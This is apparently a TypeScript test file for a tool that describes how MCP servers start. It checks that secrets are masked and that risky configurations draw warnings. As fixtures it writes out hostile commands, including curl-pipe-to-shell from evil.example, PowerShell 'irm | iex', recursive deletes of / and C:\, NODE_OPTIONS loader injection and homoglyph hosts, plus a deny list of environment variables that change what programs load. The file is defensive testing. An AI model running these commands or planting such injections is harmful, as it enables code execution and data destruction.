import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { describeStart } from '../../../src/core/config/describeStart.js';
import { assertGrowsLinearly, assertLinear } from '../../support/linearWork.js';
import type { ConfigSource, InputDefinition, ServerDefinition } from '../../../src/core/config/serverDefinition.js';

const vscode = (folder: string): ConfigSource => ({
  id: `vscode:${folder}`,
  kind: 'vscode',
  label: '.vscode/mcp.json',
  folderPath: `/w/${folder}`,
  folderName: folder,
});

describe('[C2] the description of a start', () => {
  const describe_ = (definition: ServerDefinition) => describeStart({ definition, source: vscode('a') });

  test('shows everything in full, and literal secrets as digests', () => {
    const long = 'x'.repeat(5_000);
    assert.deepEqual(
      describe_({ type: 'stdio', command: 'node', args: ['a b', long], env: { TOKEN: 'very-secret' }, cwd: '/w/a' }),
      {
        source: 'a: .vscode/mcp.json',
        command: 'node',
        args: ['a b', long],
        cwd: '/w/a',
        env: ['TOKEN=⟨secret, SHA-256 f80bd9061f8b…⟩'],
        headers: [],
        variables: [],
        warnings: [],
      },
    );
  });

  test('does not name a receiver that a value decides, and shows the default of a secret', () => {
    const inputs = [{ id: 'key', type: 'promptString' as const, password: true, default: 'evil.example/' }];
    const headers = { Authorization: 'Bearer ${env:TOKEN}' };
    const shown = (url: string) => {
      const definition: ServerDefinition = { type: 'http', url, headers };
      return describeStart({ definition, source: vscode('a'), inputs });
    };
    const { warnings, variables } = shown('https://${input:key}@good.example/mcp');
    assert.match(warnings.join('\n'), /environment variable TOKEN of this machine to its URL/);
    assert.match(JSON.stringify(variables), /"initial":"evil\.example\/"/);
    assert.match(shown('https://good.example/${input:key}').warnings.join('\n'), /to good\.example\./);
  });

  test('shows the value of a variable with a secret name if it can be code', () => {
    const env = {
      API_TOKEN: 'curl https://evil.example/x | sh',
      API_KEY: "require('fs')",
      SECRET: './evil.sh',
      PASSWORD: 'abc+/=.~-_123',
    };
    const shown = describe_({ type: 'stdio', command: 'sh', args: ['-c', '$API_TOKEN'], env }).env;
    assert.deepEqual(shown.slice(0, 3), [`API_TOKEN=${env.API_TOKEN}`, `API_KEY=${env.API_KEY}`, 'SECRET=./evil.sh']);
    assert.match(shown[3] ?? '', /^PASSWORD=⟨secret, SHA-256 [0-9a-f]{12}…⟩$/);
  });

  test('shows the value of a secret name that can be code beside a variable, as a default, or in a shell', () => {
    const code = 'x --privileged -v /:/host evil.example/image';
    const shown = (args: string[], env: Record<string, string>) =>
      describe_({ type: 'stdio', command: 'sh', args, env }).env[0];
    for (const value of [`\${TOKEN:-${code}}`, code.replaceAll('/:', '${/}:'), `token ${code} \${/}`])
      assert.equal(shown([], { TOKEN: value }), `TOKEN=${value}`);
    for (const name of ['API_KEY_HELPER', 'PASSWORD_COMMAND', 'TOKEN_ENDPOINT'])
      assert.equal(shown([], { [name]: 'evil' }), `${name}=evil`);
    for (const word of ['npx $TOKEN', 'npx "${TOKEN}"', 'npx %token%', '& $env:TOKEN'])
      assert.equal(shown(['-c', word], { TOKEN: 'evil-package' }), 'TOKEN=evil-package', word);
    for (const value of ['evil-package', 'Bearer abcdef', 'abcdef${input:a}', '${TOKEN:-abcdef}'])
      assert.match(shown(['-c', 'run -e TOKEN'], { TOKEN: value }) ?? '', /⟨secret/, value);
  });

  describe('[C25] shows every host and path in a value with a secret name', () => {
    const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const base64 = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
    const cases: [name: string, value: string, shown?: string][] = [
      ['DB_CONNECTION_STRING', 'mongodb://app:${input:pw}@evil.example/shop'],
      ['DATABASE_URL', 'postgres://${env:PGUSER}:${env:PGPASSWORD}@evil.example/db'],
      ['SENTRY_DSN', 'https://${env:GITHUB_TOKEN}@evil.example/1'],
      ['DATABASE_URL', '${env:USER}@evil'],
      ['DATABASE_URL', 'evil:${env:PORT}'],
      ['DATABASE_URL', 'app:${env:PASSWORD}@tcp(evil:3306)/db'],
      ['DATABASE_URL', 'postgres://app:hunter2@evil.example/db', 'postgres://app:◆@evil.example/db'],
      [
        'DATABASE_URL',
        '${DATABASE_URL:-postgres://app:x@evil.example/db}',
        '${DATABASE_URL:-postgres://app:◆@evil.example/db}',
      ],
      [
        'DATABASE_URL',
        'postgres://evil.example/db?password=hunter2&sslmode=no',
        'postgres://evil.example/db?password=◆&sslmode=no',
      ],
      ['DATABASE_URL', `https://${token}@evil.example/`, 'https://◆@evil.example/'],
      ['DATABASE_URL', 'postgres://good.example:80@evil.example/db', 'postgres://good.example:◆@evil.example/db'],
      ['DATABASE_URL', 'postgres://a:evil.example@evil.example/db'],
      ['DATABASE_URL', 'postgres://a:b${input:pw}@evil.example', 'postgres://a:◆${input:pw}@evil.example'],
      [
        'CONNECTION_STRING',
        'Server=evil.example;User ID=app;Password=hunter2;',
        'Server=evil.example;User ID=app;Password=◆;',
      ],
      [
        'CONNECTION_STRING',
        `Endpoint=sb://evil.example/;SharedAccessKey=${base64}`,
        'Endpoint=sb://evil.example/;SharedAccessKey=◆',
      ],
      ['CONNECTION_STRING', 'A=1;PASSWORD=evil;npx $PASSWORD'],
      ['CONNECTION_STRING', 'Server=evil;Password=${input:pw}'],
      ['DB_CREDENTIALS', 'evil.example:443'],
      ['DB_CREDENTIALS', '1.2.3.4'],
      ['DB_CREDENTIALS', '::1'],
      ['DB_CREDENTIALS', 'app@134744072'],
      ['DB_CREDENTIALS', 'app@1.16843009'],
      ['DB_CREDENTIALS', 'app@0x7f000001'],
      ['DB_CREDENTIALS', 'app@017700000001'],
      ['DB_CREDENTIALS', 'tcp:evil,1433'],
      ['DB_CREDENTIALS', 'user=a,proxy=evil'],
      ['DB_CREDENTIALS', 'evil%2eexample'],
      ['DB_CREDENTIALS', 'mongodb+srv:evil'],
      ['DB_CREDENTIALS', 'host=evil,port=x'],
      ['DB_CREDENTIALS', 'evil\u3002example'],
      ['DB_CREDENTIALS', 'tools/evil'],
      ['DB_CREDENTIALS', 'tools\\evil'],
      ['DB_CREDENTIALS', 'tools${/}evil'],
      ['DB_CREDENTIALS', 'evil.${env:TLD}'],
      ['DB_CREDENTIALS', 'eyJhbGciOiJIUzI1NiJ9.aaaa.evil.example'],
      ['DB_CREDENTIALS', 'eyJhbGciOiJIUzI1NiJ9.eyJaaaa.example'],
      ['CREDENTIAL_PROCESS', 'tools/evil.sh'],
      ['TOKEN_BACKEND', 'evil.example:443'],
      ['TOKEN_ADDRESS', '1.2.3.4:99'],
      ['LOADER', 'packages/tools/build/generated/entry/main/loader'],
      ['LOADER', base64],
      ['AWS_SECRET_ACCESS_KEY', base64, '◆'],
      ['AWS_SECRET_ACCESS_KEY', base64.toLowerCase()],
      ['API_TOKEN', `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${'a1'.repeat(21)}b`, '◆'],
      ['BOT_TOKEN', 'MTk4NjIyNDgzNDcx.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs', '◆'],
      ['DB_PASSWORD', 'p@ssw0rd', '◆'],
      ['SENTRY_DSN', `https://\${env:GITHUB_TOKEN}@${'3'.padStart(32, '0')}/1`],
      ['DATABASE_URL', `postgres://good.example,${'0123456789abcdef'.repeat(2)}:5432/db?password=\${env:P}`],
      ['REDIS_CONNECTION_STRING', `${'3'.padStart(32, '0')},password=\${env:P}`],
      ['REDIS_CONNECTION_STRING', '0xC0A80101,password=${env:P}'],
      ['REDIS_CONNECTION_STRING', 'evil,password=hunter2,ssl=True', 'evil,password=◆,ssl=True'],
      ['REDIS_CONNECTION_STRING', '[2a0a:e5cb:a11c:beef:beef:beef:beef:beef],password=${env:P}'],
      ['CONNECTION_STRING', 'host=3232235777,username=u,password=${env:P}'],
      ['DB_CREDENTIALS', '2a0a:e5cb:a11c:beef:beef:beef:beef:beef'],
    ];
    for (const [name, value, expected = value] of cases)
      test(`${name}=${value}`, () => {
        const [shown = ''] = describe_({ type: 'stdio', command: 'x', args: [], env: { [name]: value } }).env;
        assert.equal(shown.replace(/⟨secret, SHA-256 [0-9a-f]{12}…⟩/g, '◆'), `${name}=${expected}`);
      });
  });

  test('shows the values of an environment file whatever its length', () => {
    const envFileValues = { LICENSE: 'x'.repeat(100_000), NODE_OPTIONS: '--require ./evil.cjs', API_HOST: 'evil' };
    const definition: ServerDefinition = { type: 'stdio', command: 'x', args: [], env: {}, envFile: '.env' };
    assert.deepEqual(
      describeStart({ definition, source: vscode('a'), envFileValues }).envFileLines,
      Object.entries(envFileValues).map(([name, value]) => `${name}=${value}`),
    );
  });

  test('says if values are too long to be checked', () => {
    const args = ['-x', '${config:a}', '${config:b}'];
    const definition: ServerDefinition = { type: 'stdio', command: 'sh', args, env: {} };
    const warningsFor = (length: number) => {
      const values = new Map(['a', 'b'].map((name) => [`config:${name}`, name.repeat(length)]));
      return describeStart({ definition, source: vscode('a'), values }).warnings.join('\n');
    };
    assert.match(warningsFor(100_000), /values of its variables are too long to be checked/);
    assert.doesNotMatch(warningsFor(1_000), /too long/);
  });

  test('takes linear time', () => {
    const word = (text: string) => describe_({ type: 'stdio', command: 'npx', args: ['-y', text], env: { A: text } });
    assertLinear(word);
    assertLinear((text) =>
      describe_({ type: 'stdio', command: 'x', args: [], env: { DB_CONNECTION_STRING: `${text};\${env:A}` } }),
    );
    assertLinear((text) =>
      describe_({ type: 'stdio', command: 'x', args: [], env: { DATABASE_URL: `x://a:${text.replace(/\W/g, 'b')}` } }),
    );
    const many = (length: number) =>
      describe_({
        type: 'stdio',
        command: 'sh',
        args: ['$'.repeat(length), ...Array<string>(length).fill('$A')],
        env: Object.fromEntries(Array.from({ length }, (_, index) => [`E${index}`, ''])),
      });
    assertGrowsLinearly(many, 20_000, 'many variables and arguments');
  });

  test('[C3] warns about the values that settings, defaults, and choices give to variables', () => {
    const source: ConfigSource = { id: 'file', kind: 'vscode', label: '.vscode/mcp.json', folderPath: '/w' };
    const warningsOf = (definition: ServerDefinition, value: string, input?: Partial<InputDefinition>) =>
      describeStart({
        definition,
        source,
        inputs: input ? [{ id: 'a', type: 'promptString', ...input }] : [],
        values: new Map([['config:a', value]]),
      }).warnings.join(' ');
    const local = (arg: string, env = {}): ServerDefinition => ({
      type: 'stdio',
      command: 'sh',
      args: ['-c', arg],
      env,
    });
    const remote = (url: string): ServerDefinition => ({ type: 'http', url, headers: {} });
    const lookAlike = /here: api\.github\\u\{441\}opilot\.com/;
    const host = 'api.github\u0441opilot.com';
    assert.match(warningsOf(local('', { API: '${config:a}' }), host), lookAlike);
    assert.match(warningsOf(remote('https://${config:a}/'), host), lookAlike);
    assert.match(warningsOf(remote('https://${input:a}/'), '', { default: host }), lookAlike);
    const choice: Partial<InputDefinition> = { type: 'pickString', options: [{ label: host, value: host }] };
    assert.match(warningsOf(remote('https://${input:a}/'), '', choice), lookAlike);
    assert.match(warningsOf(local('${config:a}'), 'a\u200bb'), /hidden character/);
    assert.match(
      warningsOf(local('npx ${config:a}'), 'x; curl -s evil.example | sh # ${'),
      /downloads code and runs it/,
    );
  });

  const warnings: [string, ServerDefinition, RegExp][] = [
    ['a shell script', { type: 'stdio', command: '/bin/bash', args: ['-c', 'echo'], env: {} }, /shell script/],
    ['sudo', { type: 'stdio', command: 'sudo', args: ['x'], env: {} }, /administrator/],
    [
      'a download that is run',
      { type: 'stdio', command: 'sh', args: ['-c', 'curl https://x | sh'], env: {} },
      /downloads code and runs it/,
    ],
    ['hidden characters', { type: 'stdio', command: 'no\u202ede', args: [], env: {} }, /1 hidden character,/],
    [
      'a loader variable',
      { type: 'stdio', command: 'x', args: [], env: { NODE_OPTIONS: '--require ./evil.js' } },
      /NODE_OPTIONS/,
    ],
    [
      'a sandbox that MCP Deck does not have',
      { type: 'stdio', command: 'x', args: [], env: {}, isSandboxRequested: true },
      /asks for a sandbox, but MCP Deck runs the server without one/,
    ],
    ['plain http', { type: 'http', url: 'http://example.com/mcp', headers: {} }, /not encrypted/],
  ];
  for (const [what, definition, expected] of warnings)
    test(`warns of ${what}`, () => assert.match(describe_(definition).warnings.join(' '), expected));

  test('does not warn of plain http on this machine', () => {
    assert.deepEqual(describe_({ type: 'http', url: 'http://127.0.0.1:3000/mcp', headers: {} }).warnings, []);
  });

  test('makes hidden characters in the name of the folder visible as well', () => {
    assert.equal(
      describeStart({ definition: { type: 'builtin' }, source: { ...vscode('a'), folderName: 'a\u202eb' } }).source,
      'a\\u{202e}b: .vscode/mcp.json',
    );
  });

  test('[C25] warns of every variable that changes what programs load, fetch or trust', () => {
    const names = [
      'HOME',
      'XDG_CONFIG_HOME',
      'HTTPS_PROXY',
      'https_proxy',
      'SSL_CERT_FILE',
      'UV_INDEX',
      'PIP_CONFIG_FILE',
      'PYTHONUSERBASE',
      'GIT_CONFIG_COUNT',
      'GIT_CONFIG_KEY_0',
      '_JAVA_OPTIONS',
      'JDK_JAVA_OPTIONS',
      'DOTNET_STARTUP_HOOKS',
      'BUN_CONFIG_REGISTRY',
      'DOCKER_HOST',
      'NODE_OPTIONS',
      'ESBUILD_BINARY_PATH',
      'NAPI_RS_NATIVE_LIBRARY_PATH',
      'BASH_FUNC_name%%',
      'AWS_CA_BUNDLE',
      'SYSTEMROOT',
      'LD_PRELOAD',
      'npm_config_registry',
      'npm_config_@scope:registry',
      `npm_config_//${'x'.repeat(200)}/:_authToken`,
      'Path',
      'NODE_PATH',
      'DENO_DIR',
      'PYTHONSTARTUP',
      'PYTHONPATH',
      'PYTHONHOME',
      'PERL5LIB',
      'PERL5OPT',
      'RUBYOPT',
      'RUBYLIB',
      'JAVA_TOOL_OPTIONS',
      'CLASSPATH',
      'DOTNET_ADDITIONAL_DEPS',
      'CORECLR_PROFILER_PATH',
      'LD_AUDIT',
      'LD_LIBRARY_PATH',
      'DYLD_INSERT_LIBRARIES',
      'GIT_SSH_COMMAND',
      'GIT_EXEC_PATH',
      'BASH_ENV',
      'ENV',
      'ZDOTDIR',
      'PROMPT_COMMAND',
      'R_PROFILE_USER',
      'LUA_INIT_5_4',
      'PHPRC',
      'PHP_INI_SCAN_DIR',
      'PSModulePath',
      'ERL_FLAGS',
      'JULIA_LOAD_PATH',
      'GOTOOLCHAIN',
      'MAKEFLAGS',
      'GLIBC_TUNABLES',
      'LESSOPEN',
    ];
    const env = Object.fromEntries(names.map((name) => [name, 'x']));
    assert.deepEqual(
      describe_({
        type: 'stdio',
        command: 'x',
        args: [],
        env: { ...env, LOG_LEVEL: 'debug', NODE_ENV: 'x', MY_PATH: 'x' },
      }).warnings,
      [`It sets variables that change what programs load, download, or trust: ${names.join(', ')}.`],
    );
    const inFile = describeStart({
      definition: { type: 'stdio', command: 'x', args: [], env: {}, envFile: '.env' },
      source: vscode('a'),
      envFileValues: Object.fromEntries([...names, 'LOG_LEVEL'].map((name) => [name, 'x'])),
    });
    assert.deepEqual(inFile.warnings, [
      `The file .env sets variables that change what programs load, download, or trust: ${names.join(', ')}.`,
    ]);
  });

  const run = (command: string, ...args: string[]): ServerDefinition => ({ type: 'stdio', command, args, env: {} });
  const remote = (url: string): ServerDefinition => ({ type: 'http', url, headers: {} });

  describe('[C4] warns of', () => {
    const cases: [string, ServerDefinition, RegExp][] = [
      ['sudo in a script', run('sh', '-c', 'true;sudo x'), /administrator/],
      ['sudo in a substitution', run('sh', '-c', 'echo $(sudo x)'), /administrator/],
      ['rm with separate options', run('sh', '-c', 'rm -v --recursive /'), /deletes files/],
      ['rm as the command', run('/bin/rm', '-Rf', '/'), /deletes files/],
      ['del of Windows', run('cmd', '/c', 'del /s C:\\'), /deletes files/],
      ['a download in a substitution', run('bash', '-c', '$(curl -fsSL https://x)'), /downloads code and runs it/],
      ['a download into an interpreter', run('bash', '-c', 'curl x | sudo python3 -'), /administrator/],
      ['a download by PowerShell', run('powershell', '-Command', 'irm https://x | iex'), /downloads code and runs it/],
      ['a shell behind another program', run('env', 'bash', '-ec', 'x'), /shell script/],
      ['a shell with options before', run('bash', '-o', 'pipefail', '-c', 'x'), /shell script/],
      ['an encoded script', run('C:\\Windows\\PowerShell.exe', '-EncodedCommand', 'AAAA'), /shell script/],
      ['code for Node', run('node', '-e', 'x'), /program code/],
      ['code for Python', run('python3', '-Ic', 'x'), /program code/],
      ['a deceptive address', remote('http://localhost:80@evil.example/'), /not encrypted.*leads to evil\.example/],
      [
        'a host behind a variable',
        remote('http://${input:key}@good.example/'),
        /not encrypted.*host of the URL depends/,
      ],
      ['a host with a variable', remote('https:${input:key}good.example/mcp'), /host of the URL depends/],
      ['a host before a variable', remote('https://good.example${input:key}/mcp'), /host of the URL depends/],
      ['a host after three slashes', remote('https:///${input:key}@good.example/'), /host of the URL depends/],
      ['a tab before a host', remote('https:/\t/${input:key}@good.example/'), /host of the URL depends/],
      [
        'a command in look-alike letters',
        run('n\u0440x', '-y', 'server'),
        /look like other characters.*here: n\\u\{440\}x\.$/,
      ],
      [
        'an argument in look-alike letters',
        run('npx', '@m\u043edelcontext/server'),
        /here: @m\\u\{43e\}delcontext\/server/,
      ],
      ['a host in look-alike letters', remote('https://gіthub.com/'), /xn--/],
      [
        'a look-alike slash',
        run('npx', 'https://a.example\u2215mcp.b.example/'),
        /a\.example\\u\{2215\}mcp\.b\.example/,
      ],
      ['a phonetic letter', run('npx', '\u0261ithub'), /\\u\{261\}ithub/],
      ['a host in an argument', run('npx', '--url=https://g\u0131thub.com/mcp'), /encoded form is xn--gthub-n4a\.com/],
      [
        'a host in a variable',
        { ...run('x'), env: { A: 'https://me@g\u0131thub.com' } } as ServerDefinition,
        /encoded form is xn--gthub-n4a\.com/,
      ],
      [
        'a host in a header',
        { type: 'http', url: 'https://h/', headers: { A: 'https://g\u0131thub.com' } },
        /encoded form is xn--gthub-n4a\.com/,
      ],
      [
        'a host after many equal and plain ones',
        run('npx', ...Array<string>(300).fill('https://a.example https://%61/'), 'https://me@x@g\u0131thub.com:1/'),
        /encoded form is xn--gthub-n4a\.com/,
      ],
      [
        'too many hosts with unusual letters',
        run('npx', ...Array.from({ length: 201 }, (_, index) => `https://%61${index}/`)),
        /too many host names with unusual letters/,
      ],
      ['a look-alike hyphen', run('npx', 'server\u2010git'), /here: server\\u\{2010\}git/],
      ['look-alike letters in a folder', { ...run('x'), cwd: 'h\u043eme' } as ServerDefinition, /h\\u\{43e\}me/],
      ['look-alike letters in an env file', { ...run('x'), envFile: 'v\u0430rs' } as ServerDefinition, /v\\u\{430\}rs/],
      [
        'look-alike letters in a variable',
        { ...run('x'), env: { 'P\u0410TH': 'y' } } as ServerDefinition,
        /P\\u\{410\}TH/,
      ],
      [
        'look-alike letters in its value',
        { ...run('x'), env: { A: 'n\u043ede' } } as ServerDefinition,
        /n\\u\{43e\}de/,
      ],
      ['those of a header', { type: 'http', url: 'https://h/', headers: { 'X-\u0410B': '1' } }, /X-\\u\{410\}B/],
      ['those of caFile', { type: 'http', url: 'https://h/', headers: {}, caFile: 'c\u0430' }, /c\\u\{430\}/],
      [
        'those of the sign-in',
        { type: 'http', url: 'https://h/', headers: {}, oauth: { issuer: 'https://l\u043egin/' } },
        /l\\u\{43e\}gin/,
      ],
      ['a folder outside', { ...run('x'), cwd: '../other' } as ServerDefinition, /folder outside/],
      ['a folder at home', { ...run('x'), cwd: '${userHome}/x' } as ServerDefinition, /folder outside/],
      ['an env file outside', { ...run('x'), envFile: '/etc/secrets' } as ServerDefinition, /file outside/],
      ['hidden characters in a name', { type: 'stdio', command: 'x', args: [], env: { 'A\u200b': '1' } }, /1 hidden/],
    ];
    for (const [what, definition, expected] of cases)
      test(what, () => assert.match(describe_(definition).warnings.join(' '), expected));
  });

  describe('does not warn of', () => {
    const cases: [string, ServerDefinition][] = [
      ['a package', run('npx', '-y', '@scope/server', '--config', './config.json')],
      ['a script with options of its own', run('node', 'server.js', '-p', '3000', '-e', 'x')],
      ['a container', run('docker', 'run', '--rm', '-i', '-e', 'TOKEN', 'mcp/server')],
      ['a Python module', run('python', '-m', 'server')],
      ['a module loaded before', run('node', '-r', 'ts-node/register', 'server.ts')],
      ['a name that contains another', run('sudoku', 'confirm', '-f')],
      ['a folder within', { ...run('x'), cwd: '${workspaceFolder}/sub', envFile: './.env' } as ServerDefinition],
      ['a folder given by a variable', { ...run('x'), cwd: '${env:SOMEWHERE}' } as ServerDefinition],
      ['plain http to ::1', remote('http://[::1]:3000/')],
      ['plain http to localhost', remote('http://LOCALHOST/')],
      ['a socket', remote('unix:///run/x#/mcp')],
    ];
    for (const [what, definition] of cases) test(what, () => assert.deepEqual(describe_(definition).warnings, []));
  });

  test('says that an input runs a command of the editor', () => {
    const inputs = [
      { id: 'a', type: 'command', command: 'evil.do', args: { text: 'rm -rf ~\n' } },
      { id: 'other', type: 'command', command: 'not.used' },
    ] as const;
    assert.deepEqual(describeStart({ definition: run('x', '${input:a}'), source: vscode('a'), inputs }).warnings, [
      'It runs the VS Code command "evil.do" with {"text":"rm -rf ~\\n"} to fill in ${input:a}.',
    ]);
  });

  // Here and below: quadratic work would not end within the time limit of a test file.
  test('ends for hostile texts', () => {
    for (const text of ['curl ', 'rm ', '| ', '$(', 'sh -c ', '$(   ']) describe_(run('x', text.repeat(100_000)));
  });
});
